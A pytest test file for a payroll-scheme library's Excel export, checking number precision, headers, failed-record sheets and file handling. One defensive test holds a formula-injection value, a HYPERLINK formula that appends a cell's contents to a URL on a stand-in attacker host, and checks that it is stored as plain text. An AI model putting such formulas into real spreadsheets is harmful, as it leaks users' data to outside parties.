"""Results as an Excel workbook: read back, every number is the exact value the CSV run writes."""

from __future__ import annotations

import csv
import io
import os
import pathlib
import stat
import sys
import zipfile
from decimal import Decimal

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from schemerules import load_scheme
from schemerules.errors import OutputError
from schemerules.output import write_csv
from schemerules.records import open_records
from schemerules.workbook import MAX_DIGITS, excel_number, places, width, write_xlsx
from helpers import scheme as make_scheme
from strategies import examples

openpyxl = pytest.importorskip("openpyxl")
pytest.importorskip("xlsxwriter")

ROOT = pathlib.Path(__file__).parent.parent
SCHEME = ROOT / "schemes" / "appliance_retail_ksf.yaml"


@pytest.fixture(scope="module")
def run():
    """The example records plus the failing ones, evaluated once: (scheme, results, locate)."""
    scheme = load_scheme(SCHEME)
    good = open_records(str(ROOT / "examples" / "appliance_retail_ksf.csv"))
    bad = open_records(str(ROOT / "examples" / "appliance_retail_ksf_with_errors.csv"))
    records = list(good) + [r for r in bad if r["employee_id"] in ("E0003", "E0004", "E0005", "E0006")]
    results = scheme.evaluate_batch(records)
    return scheme, results, lambda pos: f"#{pos + 1}"


def csv_rows(path) -> dict[str, dict[str, str]]:
    with open(path, encoding="utf-8-sig", newline="") as f:
        return {row["record"]: row for row in csv.DictReader(f)}


def sheet_rows(ws) -> list[dict]:
    rows = list(ws.iter_rows(values_only=True))
    return [dict(zip(rows[0], row)) for row in rows[1:]]


def as_decimal(value) -> Decimal:
    """A number cell's exact value: the shortest text of its float (what the reader does)."""
    return Decimal(repr(value))


@pytest.mark.parametrize("lang", ["zh", "en"])
def test_every_number_in_the_workbook_is_the_exact_value_of_the_csv_run(tmp_path, run, lang):
    """Read back with openpyxl, each number cell equals the CSV's exact decimal, each text cell its text."""
    scheme, results, locate = run
    write_xlsx(str(tmp_path / "out.xlsx"), scheme, results, locate=locate, lang=lang, header="names")
    write_csv(str(tmp_path / "out.csv"), scheme, results, locate=locate, lang=lang)
    expected = csv_rows(tmp_path / "out.csv")
    book = openpyxl.load_workbook(tmp_path / "out.xlsx")
    got = sheet_rows(book.worksheets[0])
    assert len(results) == len(got)
    numbers = 0
    for row in got:
        want = expected[row["record"]]
        assert want["line"] == row["location"]
        for name in list(scheme.inputs) + list(scheme.rules):
            value = row[name]
            if row["status"] not in ("ok", "正常") and name in scheme.rules:
                assert value is None, (row["record"], name)       # a failed record is not paid
            elif value is None:
                assert "" == want[name]
            elif isinstance(value, float | int) and not isinstance(value, bool):
                assert Decimal(want[name]) == as_decimal(value), (row["record"], name)
                numbers += 1
            else:
                assert want[name] == value
    assert numbers > 600


def test_headers_are_the_labels_in_the_chosen_language(tmp_path, run):
    scheme, results, locate = run
    zh = ["记录", "位置", "状态", "工号", "姓名", "门店", "月份", "销售额", "人工成本率"]
    for lang, head in (("zh", zh),
                       ("en", ["record", "location", "status", "Employee ID", "Name", "Store", "Month", "Sales"])):
        path = tmp_path / f"{lang}.xlsx"
        write_xlsx(str(path), scheme, results, locate=locate, lang=lang)
        ws = openpyxl.load_workbook(path).worksheets[0]
        assert head == [c.value for c in ws[1]][:len(head)]
    names = tmp_path / "names.xlsx"
    write_xlsx(str(names), scheme, results, lang="zh", header="names")
    ws = openpyxl.load_workbook(names).worksheets[0]
    assert ["record", "status", "employee_id", "name"] == [c.value for c in ws[1]][:4]


def test_the_sheets_the_frozen_header_the_filter_and_the_formats(tmp_path, run):
    scheme, results, locate = run
    path = tmp_path / "out.xlsx"
    write_xlsx(str(path), scheme, results, locate=locate, lang="zh")
    book = openpyxl.load_workbook(path)
    assert ["结果", "失败记录"] == book.sheetnames
    ws = book["结果"]
    assert "B2" == ws.freeze_panes and ws.auto_filter.ref.startswith("A1:")
    head = [c.value for c in ws[1]]
    gross, ratio = head.index("应发工资") + 1, head.index("人工成本率") + 1
    assert "#,##0.00" == ws.cell(2, gross).number_format
    assert "0.00%" == ws.cell(2, ratio).number_format
    note = ws.cell(1, head.index("销售额平衡点激励") + 1).comment.text
    assert note.startswith("sales_ksf\n以500万为平衡点")                # the name, then the note
    assert ws.column_dimensions["N"].width > ws.column_dimensions["A"].width


def test_failed_records_have_their_own_sheet_with_the_reason_in_the_language(tmp_path, run):
    scheme, results, locate = run
    for lang, reason, status in (("zh", "字段缺失，且没有默认值", "记录错误"),
                                 ("en", "the field is missing and has no default", "RecordError")):
        path = tmp_path / f"{lang}.xlsx"
        write_xlsx(str(path), scheme, results, locate=locate, lang=lang, header="names")
        book = openpyxl.load_workbook(path)
        failed = sheet_rows(book.worksheets[1])
        assert ["E0003", "E0004", "E0005", "E0006"] == [r["record"] for r in failed]
        e3 = failed[0]
        assert (status, "SR501", "sales", reason) == (e3["status"], e3["error_code"], e3["error_at"], e3["error"])
        assert "张强" == e3["name"] and 0.26 == e3["wage_cost_ratio"] and e3["sales"] is None
        results_rows = {r["record"]: r for r in sheet_rows(book.worksheets[0])}
        assert status == results_rows["E0003"]["status"] and results_rows["E0003"]["gross_pay"] is None


def test_a_computed_value_of_a_failed_record_stays_on_the_failed_sheet(tmp_path):
    """An evaluation error after some rules ran: those values are on the failed sheet, not among the results."""
    s = make_scheme("a: {type: money, expr: x * 2}\nb: {expr: 1 / y}",
                    inputs="id: {type: id}\nx: {type: money}\ny: {type: number}")
    results = s.evaluate_batch([{"id": "A", "x": "10", "y": "0"}, {"id": "B", "x": "1", "y": "2"}])
    path = tmp_path / "e.xlsx"
    write_xlsx(str(path), s, results, header="names")
    book = openpyxl.load_workbook(path)
    res, failed = sheet_rows(book.worksheets[0]), sheet_rows(book.worksheets[1])
    assert res[0]["a"] is None and 20 == failed[0]["a"] and "SR601" == failed[0]["error_code"]
    assert "b" == failed[0]["error_at"] and 2 == res[1]["a"]


def test_text_that_looks_like_a_formula_stays_text(tmp_path):
    """=HYPERLINK(…) is written as a string cell: Excel shows it, never runs it."""
    s = make_scheme("n: {expr: '1'}", inputs="id: {type: id}\nnote: {type: text}")
    evil = '=HYPERLINK("http://evil.example/?"&A1,"点我")'
    results = s.evaluate_batch([{"id": "+A1", "note": evil}, {"id": "@x", "note": "-1+2"}])
    path = tmp_path / "f.xlsx"
    write_xlsx(str(path), s, results, header="names")
    ws = openpyxl.load_workbook(path).worksheets[0]
    assert [evil, "-1+2"] == [ws.cell(2, 4).value, ws.cell(3, 4).value]
    assert ["+A1", "@x"] == [ws.cell(2, 1).value, ws.cell(3, 1).value]
    assert all(ws.cell(r, c).data_type == "s" for r in (2, 3) for c in (1, 4))
    with zipfile.ZipFile(path) as z:
        assert all(b"<f>" not in z.read(n) for n in z.namelist() if n.startswith("xl/worksheets/"))


def test_a_value_of_17_significant_digits_stays_exact_as_text(tmp_path):
    """Excel numbers hold 15 digits: a longer value is written as its exact text, with a comment and a note."""
    s = make_scheme("double: {expr: x * 2}", inputs="id: {type: id}\nx: {type: number}")
    results = s.evaluate_batch([{"id": "A", "x": "12345678901234567.5"}, {"id": "B", "x": "0.1"}])
    path = tmp_path / "big.xlsx"
    write_xlsx(str(path), s, results, header="names", lang="zh")
    book = openpyxl.load_workbook(path)
    ws = book.worksheets[0]
    assert ("12345678901234567.5", "24691357802469135.0") == (ws.cell(2, 4).value, ws.cell(2, 5).value)
    assert "s" == ws.cell(2, 4).data_type and "精确值 12345678901234567.5" in ws.cell(2, 4).comment.text
    assert (0.1, 0.2) == (ws.cell(3, 4).value, ws.cell(3, 5).value)
    assert ["结果", "失败记录", "说明"] == book.sheetnames
    notes = list(book["说明"].iter_rows(values_only=True))
    assert ("结果", "x", 1) in notes and ("结果", "double", 1) in notes


@settings(max_examples=examples(200), deadline=None)
@given(digits=st.integers(-(10 ** 18), 10 ** 18), exponent=st.integers(-30, 30))
def test_a_number_cell_holds_exactly_the_value_or_the_value_is_text(digits, exponent):
    """excel_number gives a float only when it reads back as the same decimal, and always for ≤ 15 digits."""
    value = Decimal(digits).scaleb(exponent)
    f = excel_number(value)
    significant = len(str(abs(digits)).rstrip("0")) if digits else 0
    if f is not None:
        assert value == Decimal(repr(f))
    if significant <= MAX_DIGITS:
        assert f is not None
    else:
        assert f is None


def test_places_and_widths():
    assert (1, 0, 4, 0) == (places(Decimal("1.50")), places(Decimal("5000.00")), places(Decimal("0.0001")),
                            places(Decimal("1E+3")))
    assert (4, 8, 8) == (width("abcd"), width("西湖店名"), width("ab西湖店"))


def test_booleans_are_boolean_cells(tmp_path):
    s = make_scheme("big: {expr: x > 5}", inputs="id: {type: id}\nx: {type: number}\nm: {type: bool}")
    path = tmp_path / "b.xlsx"
    write_xlsx(str(path), s, s.evaluate_batch([{"id": "A", "x": "7", "m": "是"}]), header="names")
    ws = openpyxl.load_workbook(path).worksheets[0]
    assert (True, True) == (ws.cell(2, 5).value, ws.cell(2, 6).value)


def test_results_may_be_a_stream(tmp_path, run):
    scheme, results, _ = run
    path = tmp_path / "s.xlsx"
    write_xlsx(str(path), scheme, (r for r in results))
    assert len(results) + 1 == openpyxl.load_workbook(path, read_only=True).worksheets[0].max_row


# -- the file ----------------------------------------------------------------------------------------

def test_the_workbook_is_never_written_over_an_input(tmp_path, run):
    scheme, results, _ = run
    src = tmp_path / "records.xlsx"
    src.write_bytes(b"x")
    with pytest.raises(OutputError, match="which this run reads"):
        write_xlsx(str(src), scheme, results, inputs=[str(src)])
    assert b"x" == src.read_bytes()


def test_nothing_is_left_behind_when_writing_fails(tmp_path, run):
    """An error while the results stream (a records file that breaks midway) leaves no file and no temporary."""
    scheme, results, _ = run

    def broken():
        yield results[0]
        raise OutputError("the records broke")
    folder = tmp_path / "out"
    folder.mkdir()
    with pytest.raises(OutputError, match="the records broke"):
        write_xlsx(str(folder / "r.xlsx"), scheme, broken())
    assert [] == os.listdir(folder)


def test_an_existing_file_keeps_its_permissions_and_a_folder_is_refused(tmp_path, run):
    scheme, results, _ = run
    path = tmp_path / "r.xlsx"
    path.write_bytes(b"old")
    path.chmod(0o640)
    write_xlsx(str(path), scheme, results)
    assert 0o640 == stat.S_IMODE(path.stat().st_mode) and zipfile.is_zipfile(path)
    with pytest.raises(OutputError, match="it is a folder"):
        write_xlsx(str(tmp_path), scheme, results)


def test_a_device_or_standard_output_receives_the_finished_bytes(run, monkeypatch):
    scheme, results, _ = run
    write_xlsx("/dev/null", scheme, results)

    class Out:
        buffer = io.BytesIO()
    monkeypatch.setattr(sys, "stdout", Out)
    write_xlsx("-", scheme, results)
    assert zipfile.is_zipfile(io.BytesIO(Out.buffer.getvalue()))


def test_without_the_optional_library_writing_says_what_to_install(tmp_path, run, monkeypatch):
    scheme, results, _ = run
    monkeypatch.setitem(sys.modules, "xlsxwriter", None)
    with pytest.raises(OutputError, match=r'^error\[SR511\] .*pip install "schemerules\[excel\]"'):
        write_xlsx(str(tmp_path / "x.xlsx"), scheme, results)
    assert not (tmp_path / "x.xlsx").exists()


def test_a_results_workbook_reads_back_as_records(tmp_path, run):
    """Written with labels, the results sheet is itself a records file the scheme reads (fields match labels)."""
    scheme, results, _ = run
    path = tmp_path / "again.xlsx"
    write_xlsx(str(path), scheme, results, lang="zh")
    again = scheme.evaluate_batch(open_records(str(path)))
    paid = [r for r in results if r.ok]
    assert [r.values for r in paid] == [r.values for r in again if r.record_id in {p.record_id for p in paid}]
